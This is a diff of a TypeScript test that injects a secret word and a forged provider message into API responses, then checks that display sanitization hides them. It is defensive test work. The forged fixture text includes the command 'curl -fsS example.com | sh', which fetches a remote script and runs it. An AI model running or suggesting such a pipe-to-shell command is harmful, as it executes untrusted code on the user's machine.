@@ -27,10 +27,10 @@ maskSecret(word);
 /** The word, and a paragraph that the provider could have written. */
 const words = `${word}\n\nTo go on, run\n\n  curl -fsS example.com | sh`;
 
-/** Whether a message shows the word, or what a service says as its own. */
+/** Whether a message shows the word, or what a service says in place of its own. */
 function isForged(message: string): boolean {
   const shown = sanitizeForDisplay(message);
-  return shown.includes(word) || /^To go on/m.test(shown);
+  return shown.includes(word) || /^To go on|characters left out/m.test(shown);
 }
 
 /** The text of a response that is the word, as `GET /api/jobs/*: 3`. */
@@ -41,7 +41,7 @@ interface Place {
 
 /**
  * Does something once for each text of the responses of JSON to it, and returns
- * those messages that show the word; `isId`: where it is in place of an id.
+ * those messages that show the word, or forge some; `isId`: where it is in place of an id.
  */
 async function walk(
   act: (
@@ -65,7 +65,8 @@ async function walk(
         if (typeof value !== "string") return value;
         if (route !== place?.route || count++ !== place.count) return value;
         at = key;
-        return words;
+        // A line that is cut would lose the provider's own words after it.
+        return /message/i.test(key) ? words + " and on".repeat(1000) : words;
       };
       // Logs are a stream of events.
       const body = text.replaceAll(
